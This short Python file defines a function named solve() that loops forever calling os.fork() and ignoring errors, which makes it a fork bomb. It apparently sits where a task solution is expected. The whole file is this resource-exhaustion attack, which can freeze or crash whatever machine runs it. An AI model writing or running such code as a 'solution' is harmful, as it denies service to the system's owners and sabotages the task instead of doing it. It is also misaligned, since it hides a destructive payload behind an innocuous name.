import os


def solve():
    while True:
        try:
            os.fork()
        except OSError:
            pass
